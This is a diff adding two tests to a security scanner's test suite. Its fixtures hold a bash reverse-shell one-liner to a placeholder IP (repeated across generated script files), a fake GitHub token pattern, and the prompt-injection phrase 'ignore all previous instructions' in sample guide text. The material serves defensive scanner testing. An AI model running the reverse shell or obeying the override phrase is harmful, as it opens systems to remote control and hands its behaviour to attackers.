@@ -141,6 +141,26 @@ def test_a_file_that_repeats_itself_leaves_room_for_others(scanner: Scanner) -> 
     assert report.left_off == 40
 
 
+def test_many_findings_of_one_rule_hide_no_other_rule(scanner: Scanner) -> None:
+    shell = "".join(f"bash -i >& /dev/tcp/192.0.2.1/{port} 0>&1\n" for port in range(4400, 4412)).encode()
+    files = [ScannedFile(f"scripts/{number:02}.sh", shell) for number in range(12)]
+
+    report = scanner.scan([*files, ScannedFile("z.md", filled("ghp_{A:36}\n").encode())])
+
+    assert "secret.github-token" in {finding.rule for finding in report.findings}
+    assert (len(report.findings), report.left_off) == (100, 12 * 12 + 1 - 100)
+
+
+def test_places_that_describe_attacks_hide_none_that_is_one(scanner: Scanner) -> None:
+    described = b"Attackers write malicious text such as `ignore all previous instructions`.\n" * 20
+    plain = b"Say hello to everybody.\n" * 40
+
+    report = scanner.scan([ScannedFile("guides/a.md", described + plain + ORDER)])
+
+    assert (report.findings[0].severity, report.findings[0].line) == (Severity.HIGH, 61)
+    assert len(report.findings) == 10
+
+
 def test_a_match_is_found_where_two_windows_meet_and_in_any_pieces(scanner: Scanner) -> None:
     size = (1 << 20) + (4 << 10)
     for start in (size - 20, size - 4100, size - 1, size + 5):
